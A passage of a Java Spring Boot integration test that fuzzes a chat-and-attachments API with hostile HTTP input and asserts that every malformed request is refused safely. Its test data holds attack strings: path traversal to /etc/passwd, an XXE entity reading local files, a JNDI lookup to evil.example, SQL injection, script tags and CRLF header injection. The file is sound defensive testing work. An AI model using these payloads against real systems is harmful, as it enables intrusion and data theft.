package io.github.connectparticipant.sample;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.EnumSet;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import io.github.connectparticipant.emulator.ConnectParticipantEmulator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.ActiveProfiles;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Hostile input on every endpoint of the API, over real HTTP through the embedded
 * emulator: seeded-random fuzzed multipart bodies, huge headers, wrong content types,
 * path traversal and injection in file names and ids, and odd methods.
 * <p>
 * Every answer is checked: never a 5xx; a 4xx (or, for input that is odd but legal, a
 * documented 2xx); no stack trace, token, pre-signed URL signature or injected header in
 * the response; an error the application answers is an {@code application/problem+json}
 * problem detail with {@code status} and {@code title}. Tomcat itself answers some
 * requests it cannot parse (a bad request line, oversized headers, encoded slashes or
 * NUL in the path) before the application sees them, and a request line without a
 * version gets Tomcat's HTTP/0.9 answer (a bare body); outside the API (the page, the
 * actuator) Spring Boot's own error JSON answers a wrong method. Those answers are
 * accepted without a problem detail, but are still never a 5xx nor a stack trace. A file with a
 * hostile but legal name downloads back with a {@code Content-Disposition} that cannot
 * inject a header or a path, and after everything a chat's transcript and the emulator
 * hold exactly the attachments that were answered with 201: nothing is half-written.
 * <p>
 * Requests go through {@link HttpClient}; where it refuses to send something (an
 * illegal URI, a restricted header, a {@code Content-Length} that lies) or where the
 * server may close the connection while the request is still being written (megabyte
 * headers), through a raw {@link Socket} with {@code SO_TIMEOUT}. The random cases are
 * seeded: the seed is printed, and {@code -Dhostile.seed=...} replays a run.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
@Import(CapturedSecrets.Configuration.class)
@ExtendWith(OutputCaptureExtension.class)
// a guard against a hung connection, not a speed target: a test takes 5 to 10 s on an idle
// 2-core machine and several times that on a loaded one
@Timeout(value = 120, unit = TimeUnit.SECONDS)
class HostileInputIntegrationTests {

	private static final long SEED = Long.getLong("hostile.seed", new SecureRandom().nextLong());

	private static final int RANDOM_MULTIPART_CASES = 240;

	private static final int SO_TIMEOUT_MILLIS = 10_000;

	private static final String CRLF = "\r\n";

	/** A chat id of the right shape that no chat has. */
	private static final String UNKNOWN_CHAT = "AAAAAAAAAAAAAAAAAAAAAA";

	/** Marker of every header injection attempt: no response header may carry it. */
	private static final String INJECTED = "hostile-injected";

	private static final JsonMapper json = JsonMapper.builder().build();

	private static final Pattern STACK_TRACE = Pattern.compile("(?m)(^\\s*at [\\w$.]+\\(" // a frame on its own line
			+ "|\\bat (io|org|java|javax|jakarta|jdk|sun|software|tools|com)\\.[\\w$.]+\\(" // a frame anywhere
			+ "|[\\w$.]+(Exception|Error|Throwable): " // an exception's toString
			+ "|Exception:" // the brief's own marker
			+ "|Caused by: |\"trace\"\\s*:)");

	/** {@code Content-Disposition} of a download: RFC 6266 filename, RFC 5987 filename*. */
	private static final Pattern DISPOSITION = Pattern.compile(
			"attachment; filename=\"([\\x20\\x21\\x23-\\x5b\\x5d-\\x7e]*)\"(?:; filename\\*=UTF-8''([A-Za-z0-9!#$&+\\-.^_`|~%]+))?");

	/** What was tried and how it was answered, printed after the run. */
	private static final Map<String, AtomicInteger> tally = new ConcurrentHashMap<>();

	@LocalServerPort
	int port;

	@Autowired
	ConnectParticipantEmulator emulator;

	@Autowired
	CapturedSecrets secrets;

	private final HttpClient http = HttpClient.newBuilder()
		.version(HttpClient.Version.HTTP_1_1)
		.connectTimeout(Duration.ofSeconds(5))
		.build();

	private String category = "setup";

	@BeforeAll
	static void printSeed() {
		System.out.println("HostileInputIntegrationTests seed: " + SEED + " (replay with -Dhostile.seed=" + SEED + ")");
	}

	@AfterAll
	static void printTally() {
		StringBuilder report = new StringBuilder("HostileInputIntegrationTests (seed " + SEED + "), answers by kind:");
		new TreeMap<>(tally).forEach((key, count) -> report.append("\n  ").append(key).append(": ").append(count));
		System.out.println(report);
	}

	@BeforeEach
	void resetEmulator() {
		this.emulator.clearFaults();
		this.emulator.updateSettings((settings) -> settings.scanDelay(Duration.ZERO));
	}

	@AfterEach
	void nothingFailedUnexpectedly(CapturedOutput output) {
		// the application logs every 500 it answers with this line (ProblemDetailsAdvice)
		assertThat(output.getAll()).doesNotContain("Unexpected failure of a request");
	}

	// ---------------------------------------------------------------- multipart fuzzing

	/**
	 * Broken boundaries, missing and duplicated parts, truncated bodies, wrong, garbage
	 * and giant part headers, parts declared larger than sent, non-UTF-8 file names...
	 * first each mutation alone, then seeded random combinations, on every POST route.
	 */
	@Test
	void fuzzedMultipartBodiesOnEveryPost() {
		this.category = "multipart";
		Random random = new Random(SEED);
		JsonNode chat = startChat("Fuzz");
		String attachments = link(chat, "attachments");
		List<String> targets = List.of("/api/chats", link(chat, "messages"),
				"/api/chats/" + UNKNOWN_CHAT + "/attachments", attachments + "?awaitScan=true");
		Map<String, Long> accepted = new LinkedHashMap<>();
		int cases = 0;
		for (Mutation mutation : Mutation.values()) {
			cases += fuzzOnce(random, EnumSet.of(mutation), attachments, attachments, accepted);
		}
		// the largest part header once for sure: 1 MB, within the request limit
		Form giant = Form.valid(random);
		giant.file().headers.add(bytes("X-Giant: " + "g".repeat(1024 * 1024)));
		cases += sendForm("GIANT_PART_HEADER(1MB)", giant, attachments, attachments, accepted);
		Mutation[] all = Mutation.values();
		for (int i = 0; i < RANDOM_MULTIPART_CASES; i++) {
			EnumSet<Mutation> mutations = EnumSet.noneOf(Mutation.class);
			int count = 1 + random.nextInt(3);
			while (mutations.size() < count) {
				mutations.add(all[random.nextInt(all.length)]);
			}
			int pick = random.nextInt(10);
			String target = (pick < targets.size()) ? targets.get(pick) : attachments;
			cases += fuzzOnce(random, mutations, target, attachments, accepted);
		}
		System.out.println("multipart: " + cases + " fuzzed bodies, " + accepted.size() + " accepted (201)");
		// every accepted upload downloads back with its size and a safe name
		accepted.forEach((href, size) -> {
			Answer download = send(Req.of("GET", href));
			check("download of accepted " + href, download, Expect.success(200));
			assertThat((long) download.body.length).as(href).isEqualTo(size);
			assertSafeDisposition(href, download.header("Content-Disposition"));
		});
		assertOnlyAcceptedAttachments(chat, accepted.keySet());
	}

	/**
	 * A whole, valid multipart body under a {@code Content-Length} larger than what is
	 * sent, then the client's half-close: the multipart parser alone would be satisfied
	 * by the closing boundary, so the application must notice the short body itself and
	 * upload nothing (an upload the client never hears of would be lost to it).
	 */
	@Test
	void shortBodyUnderALargerContentLengthUploadsNothing() {
		this.category = "short-body";
		Random random = new Random(SEED);
		JsonNode chat = startChat("Short");
		String attachments = link(chat, "attachments");
		for (int i = 0; i < 20; i++) {
			Form form = Form.valid(random);
			byte[] body = form.serialize();
			Req req = Req.of("POST", attachments + ((i % 2 == 0) ? "" : "?awaitScan=true"))
				.header("Content-Type", form.contentType)
				.body(body)
				.declaredLength(body.length + 1 + random.nextInt(100_000))
				.halfClosed();
			Answer answer = send(req);
			check("short body #" + i, answer, Expect.error().orContainer().orNoAnswer());
		}
		assertOnlyAcceptedAttachments(chat, Set.of());
	}

	private int fuzzOnce(Random random, Set<Mutation> mutations, String target, String attachments,
			Map<String, Long> accepted) {
		Form form = Form.valid(random);
		for (Mutation mutation : mutations) {
			mutation.structural(form, random);
		}
		return sendForm(mutations.toString(), form, target, attachments, accepted);
	}

	private int sendForm(String label, Form form, String target, String attachments, Map<String, Long> accepted) {
		byte[] body = form.serialize();
		Req req = Req.of("POST", target).header("Content-Type", form.contentType).body(body);
		if (form.truncateAt >= 0) {
			req = req.body(Arrays.copyOf(body, Math.min(form.truncateAt, body.length)));
		}
		if (form.flips > 0) {
			byte[] flipped = req.body.clone();
			Random random = new Random(form.flipSeed);
			for (int i = 0; i < form.flips && flipped.length > 0; i++) {
				flipped[random.nextInt(flipped.length)] = (byte) random.nextInt(256);
			}
			req = req.body(flipped);
		}
		boolean lies = form.declaredExtra > 0;
		if (lies) {
			// a request Content-Length larger than what is sent, then the client's half-close:
			// HttpClient refuses to send this, so it goes over a raw socket
			req = req.declaredLength(req.body.length + form.declaredExtra).halfClosed();
		}
		boolean upload = target.startsWith(attachments);
		Answer answer = send(req);
		Expect expect = upload ? Expect.success(201) : Expect.error();
		if (lies) {
			expect = expect.orContainer().orNoAnswer();
		}
		check(label + " -> " + target, answer, expect);
		if (answer.status == 201) {
			JsonNode created = json.readTree(answer.body);
			assertNoPathInName(label, created.get("name").asString());
			accepted.put(created.get("href").asString(), created.get("size").asLong());
		}
		return 1;
	}

	// ---------------------------------------------------------------- huge headers

	/**
	 * 64 KB and 1 MB header values, hundreds and thousands of headers, a huge cookie, a
	 * huge Content-Type and a huge query string on every route: Tomcat refuses them (400,
	 * or the connection closed while a megabyte is still being written), nothing reaches
	 * the service, and the application keeps answering.
	 */
	@Test
	void hugeHeadersOnEveryEndpoint() {
		this.category = "huge-headers";
		JsonNode chat = startChat("Headers");
		String attachmentHref = uploadLegal(chat, "order.txt");
		int cases = 0;
		for (Route route : routes(chat, attachmentHref)) {
			String kb64 = "h".repeat(64 * 1024);
			String mb1 = "m".repeat(1024 * 1024);
			List<Req> hostile = new ArrayList<>();
			hostile.add(route.req().header("X-Hostile", kb64));
			hostile.add(route.req().header("X-Hostile", mb1).overSocket());
			hostile.add(route.req().header("Cookie", "session=" + kb64));
			hostile.add(route.req().header("Accept", "application/json;q=0.9, " + "text/x-h;q=0.1, ".repeat(4000)));
			hostile.add(route.req().header("Referer", "http://localhost/" + kb64));
			Req many = route.req();
			for (int i = 0; i < 300; i++) {
				many = many.header("X-Many-" + i, "v" + i);
			}
			hostile.add(many);
			Req thousands = route.req().overSocket();
			for (int i = 0; i < 10_000; i++) {
				thousands = thousands.header("X-Lot-" + i, "value-" + i);
			}
			hostile.add(thousands);
			hostile.add(route.req().path(route.path + (route.path.contains("?") ? "&" : "?") + "q=" + kb64));
			if (route.method.equals("POST")) {
				Req huge = route.req();
				String type = huge.header("Content-Type");
				hostile.add(huge.replaceHeader("Content-Type", type + "; x-pad=" + kb64));
			}
			for (Req req : hostile) {
				Answer answer = send(req);
				check("huge header on " + route, answer, Expect.error().orContainer().orNoAnswer());
				cases++;
			}
		}
		System.out.println("huge headers: " + cases + " requests");
		// the application still answers, and nothing was uploaded by a refused request
		check("chat after huge headers", send(Req.of("GET", link(chat, "self"))), Expect.success(200));
		assertOnlyAcceptedAttachments(chat, Set.of(attachmentHref));
	}

	// ---------------------------------------------------------------- content types

	/**
	 * Every POST with text/plain, application/xml, multipart without a boundary, no
	 * Content-Type at all, a bogus charset, a malformed media type and the other
	 * routes' types; every GET with an Accept it cannot satisfy.
	 */
	@Test
	void wrongContentTypesOnEveryPost() {
		this.category = "content-type";
		JsonNode chat = startChat("Types");
		String attachmentHref = uploadLegal(chat, "order.txt");
		Map<String, byte[]> bodies = new LinkedHashMap<>();
		bodies.put("json", bytes("{\"displayName\":\"Ada\",\"content\":\"hi\"}"));
		bodies.put("xml", bytes("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"));
		bodies.put("multipart", Form.valid(new Random(SEED)).serialize());
		bodies.put("empty", new byte[0]);
		List<String> types = Arrays.asList("text/plain", "application/xml", "text/xml", "multipart/form-data",
				"multipart/form-data; boundary=", "multipart/form-data; boundary=\"\"", "multipart/mixed; boundary=x",
				"application/x-www-form-urlencoded", "application/json; charset=x-bogus", "application/json; charset=UTF-32",
				"application/json;;;", "application/", "/", "garbage", "*/*", "application/octet-stream",
				"image/png", "text/html; charset=utf-8", "application/problem+json", "application/x-ndjson", null);
		int cases = 0;
		Set<String> uploaded = new LinkedHashSet<>(Set.of(attachmentHref));
		for (String path : List.of("/api/chats", link(chat, "messages"), link(chat, "attachments"))) {
			for (String type : types) {
				for (Map.Entry<String, byte[]> body : bodies.entrySet()) {
					Req req = Req.of("POST", path).body(body.getValue());
					if (type != null) {
						req = req.header("Content-Type", type);
					}
					Answer answer = send(req);
					// JSON with odd but harmless media type parameters is still JSON
					boolean json = type != null && type.startsWith("application/json") && body.getKey().equals("json")
							&& !path.endsWith("/attachments");
					check("Content-Type " + type + " with a " + body.getKey() + " body", answer,
							json ? Expect.success(201) : Expect.error());
					cases++;
				}
			}
		}
		// the right type on the wrong route
		String form = Form.valid(new Random(SEED)).contentType;
		byte[] multipart = bodies.get("multipart");
		check("multipart to POST /api/chats", send(Req.of("POST", "/api/chats").header("Content-Type", form).body(multipart)),
				Expect.error());
		check("multipart to messages", send(Req.of("POST", link(chat, "messages")).header("Content-Type", form)
			.body(multipart)), Expect.error());
		check("json to attachments", send(Req.of("POST", link(chat, "attachments")).header("Content-Type",
				"application/json").body(bytes("{\"file\":\"x\"}"))), Expect.error());
		cases += 3;
		// Accept headers a GET cannot satisfy: 406, or the route's own type
		for (Route route : routes(chat, attachmentHref)) {
			if (!route.method.equals("GET")) {
				continue;
			}
			for (String accept : List.of("application/xml", "text/html", "garbage", "image/*", "*/*;q=abc",
					"application/json;q=0")) {
				Answer answer = send(route.req().header("Accept", accept));
				if (answer.status == 406 && answer.body.length == 0) {
					// an Accept that cannot even be parsed admits no problem detail either
					check("Accept " + accept + " on " + route, answer, Expect.error().orContainer());
				}
				else {
					check("Accept " + accept + " on " + route, answer, route.success(200));
				}
				cases++;
			}
		}
		System.out.println("content types: " + cases + " requests");
		assertOnlyAcceptedAttachments(chat, uploaded);
	}

	// ---------------------------------------------------------------- file names

	/**
	 * Path traversal and injection in file names: each is refused with a 4xx problem
	 * detail or, when legal, accepted and downloaded back under a safe name.
	 */
	@Test
	void hostileFileNamesAreRefusedOrDownloadSafely() {
		this.category = "file-names";
		JsonNode chat = startChat("Names");
		String attachments = link(chat, "attachments");
		Map<String, byte[]> accepted = new LinkedHashMap<>();
		int i = 0;
		for (HostileName name : hostileNames()) {
			byte[] content = bytes("hostile name #" + (++i) + ": " + name.label);
			Form form = Form.withDisposition(name.disposition, content);
			Req req = Req.of("POST", attachments).header("Content-Type", form.contentType).body(form.serialize());
			Answer answer = send(req);
			System.out.println("file name " + abbreviate(name.label) + " -> " + answer.status);
			check("file name " + name.label, answer, Expect.success(201));
			assertThat(name.expected).as(name.label + " answered " + answer.status + ": " + answer.text())
				.contains(answer.status);
			if (answer.status == 201) {
				JsonNode created = json.readTree(answer.body);
				assertNoPathInName(name.label, created.get("name").asString());
				accepted.put(created.get("href").asString(), content);
			}
		}
		System.out.println("file names: " + i + " tried, " + accepted.size() + " accepted");
		assertThat(accepted).as("some hostile but legal names are accepted").hasSizeGreaterThan(10);
		accepted.forEach((href, content) -> {
			Answer download = send(Req.of("GET", href));
			check("download " + href, download, Expect.success(200));
			assertThat(download.body).as(href).isEqualTo(content);
			assertSafeDisposition(href, download.header("Content-Disposition"));
			assertThat(download.header("X-Content-Type-Options")).isEqualTo("nosniff");
		});
		assertOnlyAcceptedAttachments(chat, accepted.keySet());
	}

	/**
	 * A part header longer than Tomcat's limit: refused while the body is parsed.
	 */
	private static final Set<Integer> TOO_LONG_HEADER = Set.of(400, 413);

	private static List<HostileName> hostileNames() {
		Set<Integer> ok = Set.of(201);
		Set<Integer> badName = Set.of(400);
		Set<Integer> refused = Set.of(400, 415);
		Set<Integer> either = Set.of(201, 400, 415);
		List<HostileName> names = new ArrayList<>();
		// path traversal: only the last segment is kept
		names.add(HostileName.quoted("../../etc/passwd", ok));
		names.add(HostileName.quoted("../../../../../../etc/passwd.txt", ok));
		names.add(HostileName.quoted("/etc/shadow.txt", ok));
		names.add(HostileName.quoted("..\\..\\win.ini", refused)); // .ini is not an allowed type
		names.add(HostileName.quoted("..\\\\..\\\\boot.txt", ok));
		names.add(HostileName.quoted("C:\\\\Windows\\\\System32\\\\drivers\\\\etc\\\\hosts.txt", ok));
		names.add(HostileName.quoted("\\\\\\\\server\\\\share\\\\x.txt", ok));
		names.add(HostileName.quoted("%2e%2e%2f%2e%2e%2fetc%2fpasswd.txt", ok));
		names.add(HostileName.quoted("..%c0%af..%c0%afetc.txt", ok));
		names.add(HostileName.quoted("..\uFF0F..\uFF0Fx.txt", ok));
		names.add(HostileName.encoded("..%2F..%2Fetc%2Fpasswd.txt", ok));
		names.add(HostileName.quoted("/", badName));
		names.add(HostileName.quoted("../", badName));
		names.add(HostileName.quoted("a/b/", badName));
		// only dots, hidden files, white space
		names.add(HostileName.quoted(".", ok));
		names.add(HostileName.quoted("..", ok));
		names.add(HostileName.quoted("...", ok));
		names.add(HostileName.quoted(". .", ok));
		names.add(HostileName.quoted(".txt", ok));
		names.add(HostileName.quoted("...txt", ok));
		names.add(HostileName.quoted(".htaccess", refused));
		names.add(HostileName.quoted("   ", badName));
		names.add(HostileName.quoted("  padded.txt  ", ok));
		// header injection: CR/LF, quotes, semicolons
		names.add(HostileName.raw("a.txt\r\nX-Injected: " + INJECTED, either));
		names.add(HostileName.raw("filename=\"a\r\nContent-Type: text/html\r\n\r\n<script>.txt\"", either));
		names.add(HostileName.encoded("a%0D%0AX-Injected%3A%20" + INJECTED + ".txt", badName));
		names.add(HostileName.encoded("a%0Ab.txt", badName));
		names.add(HostileName.quoted("\\\"quoted\\\".txt", ok));
		names.add(HostileName.quoted("\\\"; filename=evil.txt", ok));
		names.add(HostileName.raw("filename=\"a\"b.txt\"", either));
		names.add(HostileName.raw("filename=\"a.txt\"; filename=\"evil.exe\"", either));
		names.add(HostileName.raw("filename=x.txt; filename*=UTF-8''evil.exe", either));
		names.add(HostileName.raw("filename=unquoted;name.txt", either));
		names.add(HostileName.quoted("semi;colon.txt", ok));
		names.add(HostileName.quoted("x.txt; filename=evil.exe", refused)); // its extension is .exe
		names.add(HostileName.quoted("a=b,c;d.txt", ok));
		names.add(HostileName.quoted("'; DROP TABLE attachments;--.txt", ok));
		names.add(HostileName.quoted("<script>alert(1)<\\/script>.txt", ok));
		names.add(HostileName.quoted("${jndi:ldap://evil.example/x}.txt", ok));
		names.add(HostileName.quoted("%s%n%x.txt", ok));
		// NUL and other control characters: refused
		names.add(HostileName.raw("filename=\"a\u0000b.txt\"", badName));
		names.add(HostileName.encoded("a%00b.txt", badName));
		names.add(HostileName.encoded("name.txt%00.exe", refused));
		names.add(HostileName.quoted("bell\u0007.txt", badName));
		names.add(HostileName.quoted("tab\tname.txt", either));
		names.add(HostileName.quoted("del\u007f.txt", badName));
		names.add(HostileName.quoted("c1\u0085.txt", badName));
		// lengths
		names.add(HostileName.quoted("n".repeat(252) + ".txt", ok)); // 256: the longest allowed
		names.add(HostileName.quoted("n".repeat(253) + ".txt", badName));
		names.add(HostileName.quoted("n".repeat(300) + ".txt", badName));
		names.add(HostileName.quoted("n".repeat(5000) + ".txt", TOO_LONG_HEADER));
		names.add(HostileName.quoted("\u65e5".repeat(252) + ".txt", ok)); // 256 characters, 760 bytes of UTF-8
		names.add(HostileName.quoted("\uD83D\uDCCE".repeat(120) + ".txt", ok)); // 124 code points, 244 chars
		// bidirectional and invisible characters: accepted, replaced in the download's name
		names.add(HostileName.quoted("invoice\u202Egpj.txt", ok));
		names.add(HostileName.quoted("evil\u202Etxt.exe", refused));
		names.add(HostileName.quoted("\u202Dleft\u202Aright\u2066iso\u2069.txt", ok));
		names.add(HostileName.quoted("zero\u200Bwidth\uFEFF.txt", ok));
		names.add(HostileName.quoted("line\u2028para\u2029.txt", ok));
		names.add(HostileName.quoted("private\uE000use.txt", ok));
		names.add(HostileName.quoted("r\u00e9sum\u00e9 \u65e5\u672c.txt", ok));
		names.add(HostileName.encoded("%E2%80%AEgpj.txt", ok));
		// Windows oddities
		names.add(HostileName.quoted("CON.txt", ok));
		names.add(HostileName.quoted("nul", ok));
		names.add(HostileName.quoted("file.txt.", either));
		names.add(HostileName.quoted("file.txt:evil.exe", refused));
		names.add(HostileName.quoted("file.txt::$DATA", refused));
		// non-UTF-8 bytes in the part header
		names.add(HostileName.ofBytes("latin-1 caf\\xE9", concat(bytes("filename=\"caf"), new byte[] { (byte) 0xE9 },
				bytes(".txt\"")), either));
		names.add(HostileName.ofBytes("invalid UTF-8 \\xC3\\x28", concat(bytes("filename=\""), new byte[] { (byte) 0xC3, 0x28 },
				bytes(".txt\"")), either));
		names.add(HostileName.ofBytes("overlong slash in name", concat(bytes("filename=\".."), new byte[] { (byte) 0xC0,
				(byte) 0xAF }, bytes(".."), new byte[] { (byte) 0xC0, (byte) 0xAF }, bytes("etc.txt\"")), either));
		names.add(HostileName.ofBytes("lone surrogate \\xED\\xA0\\x80", concat(bytes("filename=\"s"), new byte[] {
				(byte) 0xED, (byte) 0xA0, (byte) 0x80 }, bytes(".txt\"")), either));
		names.add(HostileName.ofBytes("\\xFF\\xFE", concat(bytes("filename=\""), new byte[] { (byte) 0xFF, (byte) 0xFE },
				bytes(".txt\"")), either));
		// RFC 5987 oddities
		names.add(HostileName.raw("filename*=x-bogus''a.txt", either));
		names.add(HostileName.raw("filename*=UTF-8''%ZZ.txt", either));
		names.add(HostileName.raw("filename*=UTF-8''%", either));
		names.add(HostileName.raw("filename*=''", either));
		names.add(HostileName.raw("filename*=UTF-8'en'%E2%80%AE%2F..%2F.txt", either));
		names.add(HostileName.raw("filename*=ISO-8859-1''caf%E9.txt", ok));
		return names;
	}

	// ---------------------------------------------------------------- ids

	/**
	 * Path traversal and injection in the chat and attachment ids on every route, in
	 * the transcript's query parameters, and in raw request lines (backslashes, NUL,
	 * CR/LF) that no client library sends.
	 */
	@Test
	void hostileIdsOnEveryRoute() {
		this.category = "ids";
		JsonNode chat = startChat("Ids");
		String chatId = chat.get("id").asString();
		String attachmentHref = uploadLegal(chat, "order.txt");
		String attachmentId = attachmentHref.substring(attachmentHref.lastIndexOf('/') + 1);
		List<String> ids = new ArrayList<>(List.of("..%2F..%2Factuator", "..%2f..%2factuator%2fhealth",
				"%2e%2e%2f%2e%2e%2factuator", "..%252F..%252Factuator", "%2e%2e", "%2e", "..", ".", "%2F", "a%2Fb",
				"%5C", "..%5C..%5Cwin.ini", "%00", "a%00b", "%00.txt", chatId + "%00", "%0D%0ASet-Cookie:%20" + INJECTED
						+ "=1",
				"%0D%0AX-Injected:%20" + INJECTED, "%25", "%", "%zz", "%C0%AF", "%C0%AE%C0%AE", "%E2%80%AE", "%FF",
				"%EF%BF%BF", ";jsessionid=hostile", "a;b=c", chatId + ";x=y", "%3B", "*", "%2A", "~root", "%20",
				"%09", "%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%27%20OR%20%271%27%3D%271",
				"%7B%7Bchat%7D%7D", "$%7Bjndi:ldap:%2F%2Fevil%7D", "null", "-1", "0",
				chatId.toLowerCase(Locale.ROOT), chatId + "%20", "x".repeat(300), "x".repeat(5000), "x".repeat(70_000)));
		int cases = 0;
		for (String id : ids) {
			for (Route route : routes(chat, attachmentHref)) {
				if (route.path.contains(chatId)) {
					Req req = route.req().path(route.path.replace(chatId, id));
					// a path parameter (;x=y) is no part of the id: the servlet container drops it
					Expect expect = id.equals(chatId + ";x=y") ? Expect.success(200, 201).orContainer() : idExpect();
					check("chat id " + abbreviate(id) + " on " + route.method + " " + route.template, send(req), expect);
					cases++;
				}
				if (route.path.contains(attachmentId)) {
					Req req = route.req().path(route.path.replace(attachmentId, id));
					check("attachment id " + abbreviate(id) + " on " + route.template, send(req), idExpect());
					cases++;
				}
			}
		}
		// the exact traversal of the brief, on every method the route has
		String traversal = "/api/chats/..%2F..%2Factuator/attachments/x";
		for (String method : List.of("GET", "POST", "PUT", "DELETE", "PATCH")) {
			check(method + " " + traversal, send(Req.of(method, traversal).body(bytes("x"))), idExpect());
			cases++;
		}
		// hostile query parameters
		String transcript = link(chat, "transcript");
		for (String query : List.of("pageSize=0", "pageSize=101", "pageSize=-1", "pageSize=99999999999", "pageSize=abc",
				"pageSize=%00", "pageSize=1e3", "direction=UP", "direction=..%2F..", "direction=%00", "sortOrder=%0D%0A",
				"nextToken=" + "t".repeat(1001), "nextToken=..%2F..%2Factuator", "nextToken=%00", "nextToken=%FF%FE",
				"nextToken=not-a-token", "nextToken=" + "%E2%80%AE".repeat(50), "pageSize=1&pageSize=2",
				"direction=FORWARD&direction=BACKWARD")) {
			check("transcript?" + abbreviate(query), send(Req.of("GET", transcript + "?" + query)),
					Expect.success(200));
			cases++;
		}
		check("awaitScan=maybe", send(Req.of("POST", link(chat, "attachments") + "?awaitScan=maybe")
			.header("Content-Type", Form.valid(new Random(SEED)).contentType)
			.body(Form.valid(new Random(SEED)).serialize())), Expect.error());
		cases++;
		// raw request lines: what HttpClient refuses to send
		for (String target : List.of("/api/chats/..\\..\\actuator/health", "/api/chats/" + chatId + "\\..\\..",
				"/api/chats/a b", "/api/chats/\u0000", "/api/chats/x\r\nX-Injected: " + INJECTED,
				"/api/chats/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "/../../../etc/passwd", "/api/chats/../../../../etc/passwd",
				"api/chats", "*", "//api/chats/" + chatId, "/api/chats/" + chatId + "/attachments/" + attachmentId + "#frag",
				"/api/chats/\u00e9", "http://evil.example/api/chats/" + chatId, "/api/chats/" + chatId + "?\u0000=1",
				"/api/chats/" + chatId + "/transcript?nextToken=\r\n")) {
			check("request target " + abbreviate(target), send(Req.of("GET", target).overSocket()), idExpect().orNoAnswer());
			cases++;
		}
		check("request line with an invalid method", send(Req.of("G\u00c9T", "/api/chats/" + chatId).overSocket()),
				idExpect().orNoAnswer());
		check("request line without a version", send(Req.of("GET", "/api/chats/" + chatId + "\r\nX:").overSocket()),
				idExpect().orNoAnswer());
		cases += 2;
		System.out.println("ids: " + cases + " requests");
		assertOnlyAcceptedAttachments(chat, Set.of(attachmentHref));
	}

	private static Expect idExpect() {
		// an id is only ever a 4xx, from the application or, for a request line it
		// cannot parse (encoded slash or backslash, NUL, a bad escape, too long), Tomcat
		return Expect.error().orContainer();
	}

	// ---------------------------------------------------------------- methods

	/**
	 * PUT, DELETE and PATCH (and TRACE, OPTIONS and a made-up method) on every route:
	 * 405 problem details, and nothing is changed or deleted.
	 */
	@Test
	void oddMethodsOnEveryRoute() {
		this.category = "methods";
		JsonNode chat = startChat("Methods");
		String attachmentHref = uploadLegal(chat, "order.txt");
		Form form = Form.valid(new Random(SEED));
		int cases = 0;
		Set<String> templates = new LinkedHashSet<>();
		for (Route route : routes(chat, attachmentHref)) {
			if (!templates.add(route.path)) {
				continue;
			}
			for (String method : List.of("PUT", "DELETE", "PATCH")) {
				check(method + " " + route.template,
						send(Req.of(method, route.path).header("Content-Type", "application/json").body(bytes("{}"))),
						route.error());
				check(method + " " + route.template + " (multipart)",
						send(Req.of(method, route.path).header("Content-Type", form.contentType).body(form.serialize())),
						route.error());
				check(method + " " + route.template + " (no body)", send(Req.of(method, route.path)), route.error());
				cases += 3;
			}
			check("TRACE " + route.template, send(Req.of("TRACE", route.path)), Expect.error().orContainer());
			check("HOSTILE " + route.template, send(Req.of("HOSTILE", route.path)), route.error());
			check("OPTIONS " + route.template, send(Req.of("OPTIONS", route.path)), route.success(200));
			cases += 3;
		}
		System.out.println("methods: " + cases + " requests");
		// nothing deleted or changed: the chat, its transcript and the attachment are intact
		check("chat after odd methods", send(Req.of("GET", link(chat, "self"))), Expect.success(200));
		check("attachment after odd methods", send(Req.of("GET", attachmentHref)), Expect.success(200));
		assertOnlyAcceptedAttachments(chat, Set.of(attachmentHref));
	}

	// ---------------------------------------------------------------- routes

	/** A route with a real chat and attachment, and the valid request it takes. */
	private record Route(String method, String template, String path, String contentType, byte[] body) {

		/**
		 * An error on this route: a problem detail on the API; outside it (the page, the
		 * actuator) Spring Boot's own error answer is accepted as well.
		 */
		Expect error() {
			return this.template.startsWith("/api/") ? Expect.error() : Expect.error().orContainer();
		}

		Expect success(Integer... statuses) {
			Expect success = Expect.success(statuses);
			return this.template.startsWith("/api/") ? success : success.orContainer();
		}

		Req req() {
			Req req = Req.of(this.method, this.path);
			return (this.body != null) ? req.header("Content-Type", this.contentType).body(this.body) : req;
		}

		@Override
		public String toString() {
			return this.method + " " + this.template;
		}

	}

	private List<Route> routes(JsonNode chat, String attachmentHref) {
		// the POSTs carry valid bodies; for the attachments one a file whose type is refused,
		// so that a request that gets through never adds an attachment
		Form refused = Form.withDisposition(bytes("filename=\"setup.exe\""), bytes("MZ"));
		return List.of(new Route("POST", "/api/chats", "/api/chats", "application/json", bytes("{\"displayName\":\"Ada\"}")),
